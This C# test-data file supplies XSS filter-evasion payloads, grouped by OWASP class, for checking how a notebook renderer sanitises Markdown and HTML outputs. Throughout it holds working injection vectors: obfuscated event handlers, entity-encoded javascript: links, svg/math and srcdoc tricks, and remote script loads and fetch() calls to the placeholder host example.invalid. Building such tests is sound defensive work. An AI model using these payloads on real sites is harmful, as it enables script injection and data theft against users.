namespace SegAlign.Tests.Reports;

/// <summary>
/// The OWASP XSS filter-evasion classes, as notebook Markdown and as text/html outputs. Each payload, if it ran, would
/// fetch from example.invalid or retitle the page "pwned"; most would also leave an active element or attribute behind.
/// </summary>
public static class InjectionPayloads
{
    const string Fetch = "fetch('https://example.invalid/ran')";

    /// <summary>The OWASP classes: one report per class and kind of input, holding all of that class's payloads.</summary>
    public static TheoryData<string> Classes => new(Markdown.Select(p => p.Class).Distinct());

    /// <summary>(OWASP class, payload) pairs for Markdown cells and text/markdown outputs.</summary>
    public static readonly (string Class, string Payload)[] Markdown =
    [
        ("event handler, odd casing", $"<IMG SRC=x oNeRrOr=\"{Fetch}\"> and <BoDy OnLoAd=\"document.title='pwned'\">"),
        ("event handler, odd casing", $"<DIV onMouseOver=\"{Fetch}\">\nblock html\n</DIV>\n\n<details open OnToggle=\"{Fetch}\">x</details>"),
        ("event handler, odd casing", $"![x](x \"\\\" onerror=\\\"{Fetch}\") and [y](https://example.org \"\\\" onmouseover=\\\"{Fetch}\")"),
        ("javascript: with entities and whitespace", $"[a](&#106;avascript:{Fetch}) [b](&#x6A;&#x61;vascript:alert(1)) [c](jav&#x09;ascript:alert(1)) [d](<java script:alert(1)>)"),
        ("javascript: with entities and whitespace", "[e](%20javascript:alert(1)) [f](JaVaScRiPt:alert(1)) [g](&#0000106avascript:alert(1)) <javascript:alert(1)>"),
        ("javascript: with entities and whitespace", "[h][ref] and [i]\n\n[ref]: javascript:alert(1)\n[i]: vbscript:msgbox(1)"),
        ("svg/math namespaces", $"<svg onload=\"{Fetch}\"><script>{Fetch}</script></svg>\n\n<math><mtext><table><mglyph><style><img src=x onerror=\"{Fetch}\">"),
        ("svg/math namespaces", $"![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=) and $<svg onload=\"{Fetch}\">$\n\n$$\n</code><svg onload=\"{Fetch}\">\n$$"),
        ("srcdoc", $"<iframe srcdoc=\"<script>{Fetch}</script>\"></iframe>\n\n[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
        ("CSS expression and url(javascript:)", "<div style=\"background-image: url(javascript:alert(1)); width: expression(alert(1))\">x</div>\n\n<style>@import 'https://example.invalid/x.css';</style>"),
        ("CSS expression and url(javascript:)", "![remote](https://example.invalid/tracker.png) ![css](javascript:url(x)) <span style=\"background:url(https://example.invalid/bg.png)\">s</span>"),
        ("nested comments", $"<!-- <!-- --> <script>{Fetch}</script> -->\n\n<!-- --!><img src=x onerror=\"{Fetch}\"> -->\n\n<!--[if gte IE 4]><script>{Fetch}</script><![endif]-->"),
        ("nested comments", $"```\n</code></pre><script>{Fetch}</script>\n```\n\n`` </code><img src=x onerror=\"{Fetch}\"> ``"),
        ("unclosed tags", $"<img src=https://example.invalid/u.png onerror=\"{Fetch}\"\n\n<script src=https://example.invalid/x.js?<b>\n\n[x](javascript:alert(1)"),
        ("unclosed tags", $"```html\n<script>{Fetch}</script>\n\n`<iframe src=https://example.invalid/ <"),
    ];

    /// <summary>(OWASP class, payload) pairs for text/html outputs.</summary>
    public static readonly (string Class, string Payload)[] Html =
    [
        ("event handler, odd casing", $"<table><tr><td><IMG SRC=x oNeRrOr=\"{Fetch}\"><svg/OnLoAd=\"{Fetch}\"></td></tr></table>"),
        ("event handler, odd casing", $"<details open OnToggle=\"{Fetch}\">x</details><input autofocus OnFocus=\"{Fetch}\"><b onMouseOver=\"{Fetch}\">b</b>"),
        ("event handler, odd casing", $"<body onload=\"document.title='pwned'\"><video><source onerror=\"{Fetch}\"></video><marquee onstart=\"{Fetch}\">m</marquee>"),
        ("javascript: with entities and whitespace", "<a href=\"&#106;avascript:alert(1)\">a</a><a href=\"jav&#x09;ascript:alert(1)\">b</a><a href=\" &#14; javascript:alert(1)\">c</a>"),
        ("javascript: with entities and whitespace", "<a href=\"java\nscript:alert(1)\">d</a><a href=\"&#0000106&#0000097vascript:alert(1)\">e</a><a href=JaVaScRiPt:alert(1)>f</a>"),
        ("javascript: with entities and whitespace", "<img src=\"&#106;avascript:alert(1)\"><form action=\"javascript:alert(1)\"><button>g</button></form><base href=\"javascript:alert(1)//\">"),
        ("svg/math namespaces", $"<svg><script>{Fetch}</script><a xlink:href=\"javascript:alert(1)\"><text>t</text></a><animate onbegin=\"{Fetch}\"/></svg>"),
        ("svg/math namespaces", $"<math><mtext><table><mglyph><style><img src=x onerror=\"{Fetch}\"></style></mglyph></table></mtext></math>"),
        ("svg/math namespaces", $"<math><mi xlink:href=\"javascript:alert(1)\">m</mi></math><svg><foreignObject><iframe src=\"https://example.invalid/f\"></iframe></foreignObject></svg>"),
        ("srcdoc", $"<iframe srcdoc=\"<script>{Fetch}</script>\"></iframe><iframe srcdoc=\"&lt;img src=x onerror=&quot;{Fetch}&quot;&gt;\"></iframe>"),
        ("srcdoc", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object><embed src=\"https://example.invalid/e.swf\">"),
        ("CSS expression and url(javascript:)", "<table><tr><td style=\"width: expression(alert(1)); background-image: url(javascript:alert(1))\">x</td></tr></table>"),
        ("CSS expression and url(javascript:)", "<span style=\"background:url(https://example.invalid/bg.png)\">s</span><style>@import 'https://example.invalid/x.css'; td { background: url(https://example.invalid/td.png) }</style><table background=\"https://example.invalid/t.png\"><tr><td>t</td></tr></table>"),
        ("CSS expression and url(javascript:)", "<div style=\"-moz-binding: url(https://example.invalid/x.xml#xss); behavior: url(x.htc)\">d</div><link rel=stylesheet href=\"https://example.invalid/l.css\">"),
        ("nested comments", $"<!-- <!-- --> <script>{Fetch}</script> --><!-- --!><img src=x onerror=\"{Fetch}\"> -->"),
        ("nested comments", $"<!--[if gte IE 4]><script>{Fetch}</script><![endif]--><comment><img src=\"</comment><img src=x onerror={Fetch}//\">"),
        ("unclosed tags", $"<table><tr><td><img src=https://example.invalid/u.png onerror=\"{Fetch}\""),
        ("unclosed tags", $"<script src=https://example.invalid/x.js?<b>"),
        ("unclosed tags", $"<iframe src=https://example.invalid/ <<svg/onload={Fetch}//<b"),
        ("unclosed tags", $"<noscript><p title=\"</noscript><img src=x onerror={Fetch}>\"><textarea><script>{Fetch}</script>"),
    ];
}
